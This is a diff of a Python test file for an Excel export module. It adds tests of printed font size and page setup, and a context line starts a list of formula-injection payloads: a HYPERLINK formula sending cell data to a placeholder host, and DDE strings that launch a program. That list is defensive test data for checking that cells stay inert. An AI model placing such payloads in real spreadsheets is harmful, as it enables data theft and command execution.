@@ -105,6 +105,33 @@ def test_page_setup_is_a4_landscape_one_page_wide(tmp_path):
     assert int(ws.page_setup.fitToWidth) == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
 
 
+def test_printed_type_size_on_both_sides_of_the_nine_point_line():
+    # A4 landscape with 0.4" margins leaves 842 - 57.6 = 784.4 pt. Nine points of an 11-pt
+    # font means a scale of 9/11: columns may add up to 784.4 * 11 / 9 = 958.7 pt.
+    # One column of w characters prints (7w + 5) * 0.75 pt: w = 181.9 gives 958.7 pt.
+    ws = openpyxl.Workbook().active
+    ws.column_dimensions["A"].width = 181
+    assert xlsx.printed_type_size(ws) >= 9.0
+    ws.column_dimensions["A"].width = 183
+    assert xlsx.printed_type_size(ws) < 9.0
+    # Columns never given a width print at Excel's default 8.43 characters.
+    ws = openpyxl.Workbook().active
+    ws["J1"] = "x"
+    assert xlsx.printed_type_size(ws) == pytest.approx(11.0)
+
+
+def test_page_setup_repeats_rows_and_names_the_page(tmp_path):
+    wb = _workbook()
+    xlsx.page_setup(wb.active, title_rows="4:4", header=("问题清单：运管科.xlsx", "填报单位：A&B", ""))
+    ws = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "p.xlsx")).active
+    assert ws.print_title_rows == "$4:$4"
+    assert int(ws.page_setup.fitToHeight) == 0
+    assert ws.oddHeader.left.text == "问题清单：运管科.xlsx"
+    assert ws.oddHeader.center.text == "填报单位：A&&B"  # "&" is a code in Excel's header language
+    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
+    assert ws.page_margins.left == pytest.approx(0.4)
+
+
 # --- every cell inert: text stays text, no error values, Excel's cell limit ----------------
 
 HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
